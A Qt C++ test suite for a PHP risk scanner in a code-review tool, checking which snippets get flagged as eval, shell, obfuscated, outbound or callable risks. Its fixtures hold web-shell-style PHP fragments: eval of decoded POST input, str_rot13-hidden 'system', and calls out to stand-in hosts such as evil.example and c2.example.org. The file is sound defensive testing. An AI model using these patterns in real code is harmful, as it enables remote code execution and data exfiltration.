#include "core/review/phptokenizer.h"
#include "core/review/riskscanner.h"

#include <QTest>

#include <algorithm>
#include <atomic>

using namespace Dockmaster;

namespace {

// A new PHP file: "<?php" is line 1, the snippet starts on line 2.
QString php(const char *snippet)
{
    return QStringLiteral("<?php\n") + QString::fromUtf8(snippet);
}

QStringList summary(const QList<RiskFlag> &flags)
{
    QStringList out;
    for (const RiskFlag &f : flags)
        out.append(RiskScanner::kindKey(f.kind) + QLatin1Char(':') + QString::number(f.line));
    std::sort(out.begin(), out.end());
    return out;
}

QStringList sorted(QStringList list)
{
    std::sort(list.begin(), list.end());
    return list;
}

} // namespace

// The risk-flag corpus: what a reviewer must see, and what must stay quiet.
class TestRiskScanner : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void flagged_data()
    {
        QTest::addColumn<QString>("source");
        QTest::addColumn<QStringList>("expected");
        auto row = [](const char *name, const QString &source, const QStringList &expected) {
            QTest::newRow(name) << source << expected;
        };
        const auto l = [](std::initializer_list<const char *> items) {
            QStringList out;
            for (const char *i : items)
                out.append(QString::fromUtf8(i));
            return out;
        };
        row("eval variable", php("eval($code);\n"), l({ "eval:2" }));
        row("eval upper case spaced", php("$a = 1;\nEVAL ( $x );\n"), l({ "eval:3" }));
        row("eval silenced", php("@eval($_POST['c']);\n"), l({ "eval:2" }));
        row("assert double-quoted", php("assert(\"phpinfo()\");\n"), l({ "assert:2" }));
        row("assert single-quoted", php("assert('system(\"id\")');\n"), l({ "assert:2" }));
        row("exec", php("exec('ls', $out);\n"), l({ "shell:2" }));
        row("system variable", php("system($cmd);\n"), l({ "shell:2" }));
        row("passthru", php("passthru(\"tar czf x.tgz .\");\n"), l({ "shell:2" }));
        row("shell_exec assigned", php("$o = shell_exec('whoami');\n"), l({ "shell:2" }));
        row("proc_open", php("$p = proc_open($cmd, $spec, $pipes);\n"), l({ "shell:2" }));
        row("popen", php("$h = popen('ls', 'r');\n"), l({ "shell:2" }));
        row("backticks", php("$out = `id`;\n"), l({ "shell:2" }));
        row("backticks interpolated", php("$r = `ls $dir`;\n"), l({ "shell:2" }));
        row("fully qualified system", php("\\system('id');\n"), l({ "shell:2" }));
        row("multi-line exec", php("exec(\n    'rm -rf ' . $dir\n);\n"), l({ "shell:2" }));
        row("eval base64", php("eval(base64_decode('ZWNobyAxOw=='));\n"), l({ "eval:2", "obfuscated:2" }));
        row("eval nested decoders", php("eval(gzinflate(str_rot13(base64_decode($p))));\n"),
            l({ "eval:2", "obfuscated:2" }));
        row("decoded variable evaluated later", php("$c = base64_decode($_POST['x']);\n$d = 'a';\neval($c);\n"),
            l({ "eval:4", "obfuscated:4" }));
        row("decoded function name called", php("$f = str_rot13('flfgrz');\n$f($_GET['c']);\n"), l({ "obfuscated:3" }));
        row("decoded into create_function", php("$code = gzuncompress($blob);\n$fn = create_function('', $code);\n"),
            l({ "eval:3", "obfuscated:3" }));
        row("decoded assert", php("assert(base64_decode($x));\n"), l({ "assert:2", "obfuscated:2" }));
        row("preg_replace e modifier", php("preg_replace('/.*/e', $_GET['r'], '');\n"), l({ "eval:2" }));
        row("write absolute", php("file_put_contents('/etc/cron.d/x', $job);\n"), l({ "write:2" }));
        row("write parent dir", php("file_put_contents(__DIR__ . '/../../other/app.php', $x);\n"), l({ "write:2" }));
        row("fopen write absolute", php("$fh = fopen('/tmp/evil.sh', 'w');\n"), l({ "write:2" }));
        row("upload moved outside", php("move_uploaded_file($_FILES['f']['tmp_name'], '/var/www/shell.php');\n"),
            l({ "write:2" }));
        row("unlink parent", php("unlink('../config.php');\n"), l({ "write:2" }));
        row("rename to absolute", php("rename('data.txt', '/srv/other/data.txt');\n"), l({ "write:2" }));
        row("copy interpolated parent", php("copy($src, \"../../x/$name\");\n"), l({ "write:2" }));
        row("include request variable", php("include $_GET['page'];\n"), l({ "include:2" }));
        row("require remote", php("require_once 'http://evil.example/x.php';\n"), l({ "include:2" }));
        row("include interpolated", php("include(\"pages/$p.php\");\n"), l({ "include:2" }));
        row("require variable concatenation", php("require($base . '/x.php');\n"), l({ "include:2" }));
        row("curl_init url", php("$ch = curl_init('https://collect.example.net/p');\n"), l({ "outbound:2" }));
        row("curl_setopt url",
            php("$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, \"https://api.tracker.io/v1\");\n"),
            l({ "outbound:3" }));
        row("fsockopen", php("$s = fsockopen('ssl://c2.example.org', 443);\n"), l({ "outbound:2" }));
        row("stream_socket_client", php("$s = stream_socket_client('tcp://10.0.0.5:4444');\n"), l({ "outbound:2" }));
        row("file_get_contents url", php("$d = file_get_contents('https://pastebin.com/raw/x');\n"),
            l({ "outbound:2" }));
        row("fopen ftp", php("$h = fopen('ftp://files.example.com/a', 'r');\n"), l({ "outbound:2" }));
        row("curl_init computed", php("$ch = curl_init($url);\n"), l({ "outbound:2" }));
        row("after heredoc", php("$s = <<<EOT\neval here\nEOT;\nsystem('x');\n"), l({ "shell:5" }));
        row("after indented heredoc", php("$s = <<<'EOT'\n    exec here\n    EOT;\npopen('x', 'r');\n"),
            l({ "shell:5" }));
        row("code inside html", QStringLiteral("<html>\n<?php exec('x'); ?>\n</html>\n"), l({ "shell:2" }));
        row("code after close tag", php("$x = 1; ?>\ntext system()\n<?php passthru('y');\n"), l({ "shell:4" }));
        row("short echo tag", QStringLiteral("<p>\n<?= shell_exec('date') ?>\n</p>\n"), l({ "shell:2" }));
        row("decoded variable interpolated into eval", php("$c = base64_decode($p);\neval(\"$c;\");\n"),
            l({ "eval:3", "obfuscated:3" }));
        row("decoded callback", php("$cb = str_rot13('flfgrz');\ncall_user_func($cb, 'id');\n"), l({ "obfuscated:3" }));
        row("decoded regex pattern", php("preg_replace(base64_decode($p), $r, $s);\n"), l({ "obfuscated:2" }));
        row("assignment inside if", php("if ($k) $c = gzinflate($b);\nsystem($c);\n"),
            l({ "obfuscated:3", "shell:3" }));
        row("curl_setopt_array url",
            php("curl_setopt_array($ch, [\n    CURLOPT_URL => 'https://beacon.example.com/b',\n]);\n"),
            l({ "outbound:2" }));
        row("copy from url", php("copy('https://evil.example/x.php', __DIR__ . '/x.php');\n"), l({ "outbound:2" }));
        row("several on one file", php("// harmless comment\nsystem('a');\n$x = 'eval';\neval($x);\n"),
            l({ "eval:5", "shell:3" }));

        // A dangerous function handed over by name to something that calls it.
        row("array_map system", php("array_map('system', $cmds);\n"), l({ "callable:2" }));
        row("usort assert", php("usort($a, 'assert');\n"), l({ "callable:2" }));
        row("call_user_func exec", php("call_user_func('exec', $c);\n"), l({ "callable:2" }));
        row("call_user_func_array passthru", php("call_user_func_array('passthru', [$c]);\n"), l({ "callable:2" }));
        row("shutdown function", php("register_shutdown_function('system', $cmd);\n"), l({ "callable:2" }));
        row("fully qualified name as data", php("array_filter($x, '\\shell_exec');\n"), l({ "callable:2" }));
        row("name in mixed case", php("array_walk($a, 'SyStEm');\n"), l({ "callable:2" }));
        row("name concatenated", php("array_map('sys' . 'tem', $c);\n"), l({ "callable:2" }));
        row("variable holding the name passed", php("$f = 'passthru';\narray_map($f, $c);\n"), l({ "callable:3" }));
        row("variable function from a literal", php("$f = 'system';\n$f('id');\n"), l({ "callable:3" }));
        row("variable function built up", php("$a = 'sh' . 'ell_';\n$a .= 'exec';\n$a('id');\n"), l({ "callable:4" }));
        row("parenthesised constant expression called", php("('sys' . 'tem')('id');\n"), l({ "callable:2" }));
        row("string literal called", php("'system'('id');\n"), l({ "callable:2" }));
        row("returned call of an expression", php("return ('pass' . 'thru')($c);\n"), l({ "callable:2" }));
        row("class-less const called", php("const RUN = 'system';\n(RUN)('id');\n"), l({ "callable:3" }));
        row("define then callback", php("define('RUN', 'exec');\narray_map(RUN, $c);\n"), l({ "callable:3" }));
        row("ReflectionFunction", php("$r = new ReflectionFunction('system');\n$r->invoke('id');\n"),
            l({ "callable:2" }));
        row("Closure fromCallable", php("$c = Closure::fromCallable('exec');\n$c('id');\n"),
            l({ "callable:2", "dynamiccall:3" }));
        row("unmistakable name to any call", php("$worker->dispatch('shell_exec', $cmd);\n"), l({ "callable:2" }));
        row("preg_replace_callback", php("preg_replace_callback('/.*/', 'system', $s);\n"), l({ "callable:2" }));
        row("output buffer handler", php("ob_start('passthru');\n"), l({ "callable:2" }));
        row("sqlite function", php("$db->createFunction('x', 'system');\n"), l({ "callable:2" }));

        // Code that runs while a double-quoted string or heredoc is built.
        row("brace dollar brace", php("echo \"{${system('id')}}\";\n"), l({ "interpolation:2", "shell:2" }));
        row("dollar brace expression", php("$x = \"${phpinfo()}\";\n"), l({ "interpolation:2" }));
        row("heredoc expression", php("$s = <<<EOT\nhello {${exec('id')}}\nEOT;\n"),
            l({ "interpolation:3", "shell:3" }));
        row("variable function in braces", php("echo \"{$f('id')}\";\n"), l({ "dynamiccall:2" }));
        row("literal-named function in braces", php("$f = 'system';\necho \"{$f('id')}\";\n"), l({ "callable:3" }));

        // assert() given something that may be a string.
        row("assert variable", php("assert($code);\n"), l({ "assert:2" }));
        row("assert concatenation", php("assert($a . $b);\n"), l({ "assert:2" }));
        row("assert function result", php("assert(file_get_contents('x.txt'));\n"), l({ "assert:2" }));
        row("assert ternary", php("assert($ok ? $a : $b);\n"), l({ "assert:2" }));

        // Calls through a variable: low severity, but a reviewer should look.
        row("unknown variable function", php("$handler($request);\n"), l({ "dynamiccall:2" }));
        row("method through a variable", php("$obj->$method();\n"), l({ "dynamiccall:2" }));
        row("static method through a variable", php("Foo::$m();\n"), l({ "dynamiccall:2" }));
        row("function from an array", php("$handlers[$k]($x);\n"), l({ "dynamiccall:2" }));
    }

    void flagged()
    {
        QFETCH(QString, source);
        QFETCH(QStringList, expected);
        const QList<RiskFlag> flags = RiskScanner().scanSource(QStringLiteral("web/index.php"), source);
        QCOMPARE(summary(flags), sorted(expected));
        for (const RiskFlag &f : flags) {
            QCOMPARE(f.path, QStringLiteral("web/index.php"));
            QVERIFY(!f.explanation.isEmpty());
            QVERIFY2(!f.code.isEmpty(), qPrintable(RiskScanner::kindKey(f.kind)));
        }
    }

    void clean_data()
    {
        QTest::addColumn<QString>("source");
        QTest::newRow("eval in a double-quoted string") << php("echo \"do not eval this\";\n");
        QTest::newRow("exec in a line comment") << php("// exec($cmd);\n");
        QTest::newRow("system in a hash comment") << php("# system('ls');\n");
        QTest::newRow("eval in a block comment") << php("/* eval($x); */\n");
        QTest::newRow("multi-line block comment") << php("/**\n * Never call shell_exec($x) here.\n */\n");
        QTest::newRow("PDO exec") << php("$pdo->exec('DELETE FROM t');\n");
        QTest::newRow("nullsafe method exec") << php("$db?->exec($sql);\n");
        QTest::newRow("static method system") << php("Process::system('x');\n");
        QTest::newRow("evaluate") << php("$result = evaluate($expr);\n");
        QTest::newRow("my_system") << php("my_system('ls');\n");
        QTest::newRow("method named system") << php("$obj->system('x');\n");
        QTest::newRow("function definition") << php("function exec($x) { return $x; }\n");
        QTest::newRow("namespaced function") << php("App\\Util\\exec('x');\n");
        QTest::newRow("class instantiation") << php("$x = new Exec();\n");
        QTest::newRow("code in single-quoted string") << php("$s = 'eval(base64_decode($x))';\n");
        QTest::newRow("heredoc text") << php("$t = <<<TXT\nsystem('rm -rf /') is bad\nTXT;\necho $t;\n");
        QTest::newRow("nowdoc text") << php("$t = <<<'TXT'\neval($code);\nTXT;\n");
        QTest::newRow("assert expression") << php("assert($x > 0);\n");
        QTest::newRow("assert with description") << php("assert(is_int($n), 'n must be int');\n");
        QTest::newRow("write inside app") << php("file_put_contents(__DIR__ . '/cache/data.json', $json);\n");
        QTest::newRow("fopen read absolute") << php("$fh = fopen('/etc/hosts', 'r');\n");
        QTest::newRow("memory stream") << php("$fh = fopen('php://memory', 'w+');\n");
        QTest::newRow("require autoload") << php("require __DIR__ . '/vendor/autoload.php';\n");
        QTest::newRow("include relative literal") << php("include_once 'lib/helpers.php';\n");
        QTest::newRow("require dirname") << php("require_once dirname(__FILE__) . '/config.php';\n");
        QTest::newRow("decoded but not executed")
            << php("$json = base64_decode($payload);\necho json_decode($json);\n");
        QTest::newRow("decoded variable overwritten")
            << php("$c = base64_decode($p);\n$c = 'x';\ncall_user_func('strtoupper', $c);\n");
        QTest::newRow("base64_encode") << php("echo base64_encode($data);\n");
        QTest::newRow("local file read") << php("$data = file_get_contents(__DIR__ . '/data.json');\n");
        QTest::newRow("url in a string only") << php("$u = 'https://example.com';\necho \"<a href='$u'>\";\n");
        QTest::newRow("inline html words") << QStringLiteral("<p>eval(x) and exec('y')</p>\n<?php echo 1;\n");
        QTest::newRow("function name in a string") << php("$m = 'exec';\necho $m;\n");
        QTest::newRow("backtick in single quotes") << php("echo 'backtick ` here';\n");
        QTest::newRow("backtick in double quotes") << php("$q = \"SELECT * FROM t WHERE a = `b`\";\n");
        QTest::newRow("preg_replace without e") << php("$s = preg_replace('/a/i', 'b', $s);\n");
        QTest::newRow("constant named like exec") << php("const EXEC = 1;\necho EXEC;\n");
        QTest::newRow("attribute") << php("#[Attribute]\nclass Foo {}\n");
        QTest::newRow("decoded subject of a replace")
            << php("$s = preg_replace('/\\s+/', ' ', base64_decode($body));\n");
        QTest::newRow("decoded argument of a harmless callback")
            << php("$x = call_user_func('strtoupper', base64_decode($b));\n");
        QTest::newRow("function returning by reference") << php("function &exec(array $a) { return $a; }\n");
        QTest::newRow("windows include path") << php("include 'lib' . DIRECTORY_SEPARATOR . 'a.php';\n");
        QTest::newRow("comment then close tag") << php("// system() ?>\n<b>exec()</b>\n");
        QTest::newRow("harmless string callback") << php("$u = array_map('strtoupper', $names);\n");
        QTest::newRow("sort callback") << php("usort($rows, 'strcmp');\n");
        QTest::newRow("arrow function callback") << php("$d = array_map(fn($x) => $x * 2, $a);\n");
        QTest::newRow("system as data in a call") << php("$logger->log('system', 'started');\n");
        QTest::newRow("role system in a chat message")
            << php("$client->chat(['role' => 'system', 'content' => $p]);\n");
        QTest::newRow("exec as an array value") << php("$modes = ['exec', 'read'];\n");
        QTest::newRow("simple interpolation") << php("echo \"Hello {$user->name} and ${name}\";\n");
        QTest::newRow("method call in interpolation") << php("echo \"Total: {$cart->total()}\";\n");
        QTest::newRow("array element interpolation") << php("echo \"${rows['a']} {$rows['b']}\";\n");
        QTest::newRow("assert negation") << php("assert(!$closed);\n");
        QTest::newRow("assert instanceof") << php("assert($x instanceof Foo);\n");
        QTest::newRow("assert logical and") << php("assert($a && $b);\n");
        QTest::newRow("assert true") << php("assert(true);\n");
        QTest::newRow("immediately invoked closure") << php("(function () { echo 1; })();\n");
        QTest::newRow("new with a variable class") << php("$o = new $class($arg);\n");
        QTest::newRow("parenthesised concatenation") << php("$s = ('a' . 'b');\nif ($s) { echo $s; }\n");
        QTest::newRow("harmless literal variable function") << php("$f = 'strtolower';\necho $f('A');\n");
        QTest::newRow("method returning a closure called") << php("$this->make()($x);\n");
    }

    void clean()
    {
        QFETCH(QString, source);
        QCOMPARE(summary(RiskScanner().scanSource(QStringLiteral("web/index.php"), source)), QStringList());
    }

    void reportsOutboundHost()
    {
        const auto flags = RiskScanner().scanSource(QStringLiteral("a.php"),
                                                    php("$ch = curl_init('https://Collect.Example.net/p');\n"));
        QCOMPARE(flags.size(), 1);
        QCOMPARE(flags.first().host, QStringLiteral("collect.example.net"));
        QVERIFY(flags.first().explanation.contains(QStringLiteral("collect.example.net")));
        QCOMPARE(flags.first().code, QStringLiteral("$ch = curl_init('https://Collect.Example.net/p');"));
    }

    // Only lines the diff adds count; unchanged context and removed lines do not.
    void onlyAddedLines()
    {
        FileDiff file;
        file.oldPath = file.newPath = QStringLiteral("web/lib.php");
        file.diff = QStringLiteral("@@ -10,4 +10,5 @@ function run()\n"
                                   "     eval($old);\n"
                                   "-    system('a');\n"
                                   "+    $x = 1;\n"
                                   "+    passthru('b');\n"
                                   "     return;\n");
        const auto flags = RiskScanner().scan(file);
        QCOMPARE(summary(flags), QStringList { QStringLiteral("shell:12") });
        QCOMPARE(flags.first().code, QStringLiteral("passthru('b');"));
    }

    // A hunk that starts inside a doc comment is not read as code.
    void hunkInsideBlockComment()
    {
        FileDiff file;
        file.oldPath = file.newPath = QStringLiteral("web/lib.php");
        file.diff = QStringLiteral("@@ -20,3 +20,4 @@\n"
                                   "  * Helper.\n"
                                   "+ * Do not use exec() here.\n"
                                   "  */\n"
                                   " function f() {}\n");
        QCOMPARE(summary(RiskScanner().scan(file)), QStringList());
    }

    // A hunk in the middle of a template starts in HTML: words in markup are
    // text, code after "<?php" is code.
    void hunkInsideTemplate()
    {
        FileDiff file;
        file.oldPath = file.newPath = QStringLiteral("web/views/page.phtml");
        file.diff = QStringLiteral("@@ -30,3 +30,5 @@\n"
                                   " <div class=\"help\">\n"
                                   "+  Never call exec() or system() from a template.\n"
                                   "+  <?php echo shell_exec('date'); ?>\n"
                                   " </div>\n"
                                   " <?php echo $footer; ?>\n");
        QCOMPARE(summary(RiskScanner().scan(file)), QStringList { QStringLiteral("shell:32") });
    }

    // An XML prolog in a PHP string does not switch a mid-file hunk to HTML.
    void xmlPrologInCodeHunk()
    {
        FileDiff file;
        file.oldPath = file.newPath = QStringLiteral("web/feed.php");
        file.diff = QStringLiteral("@@ -8,2 +8,4 @@\n"
                                   " $items = load();\n"
                                   "+$date = system('date');\n"
                                   "+echo '<?xml version=\"1.0\"?>';\n"
                                   " render($items);\n");
        QCOMPARE(summary(RiskScanner().scan(file)), QStringList { QStringLiteral("shell:9") });
    }

    // A decode in one hunk feeding eval in a later hunk of the same file.
    void taintAcrossHunks()
    {
        FileDiff file;
        file.oldPath = file.newPath = QStringLiteral("web/x.php");
        file.diff = QStringLiteral("@@ -3,2 +3,3 @@\n"
                                   " $a = 1;\n"
                                   "+$p = base64_decode($k);\n"
                                   " $b = 2;\n"
                                   "@@ -40,2 +41,3 @@\n"
                                   " $c = 3;\n"
                                   "+$r = system($p);\n"
                                   " $d = 4;\n");
        QCOMPARE(summary(RiskScanner().scan(file)),
                 sorted({ QStringLiteral("obfuscated:42"), QStringLiteral("shell:42") }));
    }

    // A host the old code already used is not new.
    void knownHostIsNotNew()
    {
        FileDiff file;
        file.oldPath = file.newPath = QStringLiteral("web/api.php");
        file.diff = QStringLiteral("@@ -5,1 +5,1 @@\n"
                                   "-$ch = curl_init('https://api.example.com/v1');\n"
                                   "+$ch = curl_init('https://api.example.com/v2');\n");
        QCOMPARE(summary(RiskScanner().scan(file)), QStringList());
    }

    void composerFilesAreFileLevel_data()
    {
        QTest::addColumn<QString>("path");
        QTest::addColumn<bool>("flagged");
        QTest::newRow("composer.json") << QStringLiteral("composer.json") << true;
        QTest::newRow("nested composer.lock") << QStringLiteral("web/composer.lock") << true;
        QTest::newRow("readme") << QStringLiteral("README.md") << false;
        QTest::newRow("javascript") << QStringLiteral("web/app.js") << false;
    }

    void composerFilesAreFileLevel()
    {
        QFETCH(QString, path);
        QFETCH(bool, flagged);
        FileDiff file;
        file.oldPath = file.newPath = path;
        file.diff = QStringLiteral("@@ -1,1 +1,1 @@\n-{\"a\": 1}\n+{\"a\": 2, \"eval\": \"system(x)\"}\n");
        const auto flags = RiskScanner().scan(file);
        if (!flagged) {
            QVERIFY(flags.isEmpty());
            return;
        }
        QCOMPARE(flags.size(), 1);
        QCOMPARE(flags.first().kind, RiskKind::DependencyChange);
        QCOMPARE(flags.first().line, 0);
        QCOMPARE(flags.first().path, path);
    }

    void deletedFilesAreNotScanned()
    {
        FileDiff file;
        file.oldPath = file.newPath = QStringLiteral("web/old.php");
        file.deletedFile = true;
        file.diff = QStringLiteral("@@ -1,2 +0,0 @@\n-<?php\n-system('x');\n");
        QVERIFY(RiskScanner().scan(file).isEmpty());
    }

    // The admin selected another request: a cancelled scan stops inside a
    // file (one file of a release can be megabytes), not only between files.
    void cancelledScanStopsWithinAFile()
    {
        QString source = QStringLiteral("<?php\n");
        for (int i = 0; i < 40000; ++i)
            source += QStringLiteral("$rows[] = array_map('trim', explode(',', $line%1));\n").arg(i);
        source += QStringLiteral("eval($code);\n"); // the last line: only a whole scan reaches it
        const FileDiff patch = [&] {
            FileDiff file;
            file.oldPath = file.newPath = QStringLiteral("vendor/big.php");
            file.newFile = true;
            file.diff = QStringLiteral("@@ -0,0 +1,40002 @@\n+")
                + QString(source).replace(QStringLiteral("\n"), QStringLiteral("\n+"));
            file.diff.chop(1);
            return file;
        }();

        std::atomic_bool cancelled(false);
        RiskScanner scanner;
        scanner.setCancelFlag(&cancelled);
        QCOMPARE(summary(scanner.scanSource(QStringLiteral("vendor/big.php"), source)),
                 QStringList { QStringLiteral("eval:40002") });
        QCOMPARE(summary(scanner.scan(patch)), QStringList { QStringLiteral("eval:40002") });

        cancelled.store(true);
        QVERIFY(scanner.scanSource(QStringLiteral("vendor/big.php"), source).isEmpty());
        QVERIFY(scanner.scan(patch).isEmpty());
        QVERIFY(scanner.scan(QList<FileDiff> { patch, patch }).isEmpty());
        QVERIFY(PhpTokenizer::tokenize(source, PhpTokenizer::StartState::Html, 1, &cancelled).isEmpty());
    }
};

QTEST_GUILESS_MAIN(TestRiskScanner)
#include "tst_riskscanner.moc"
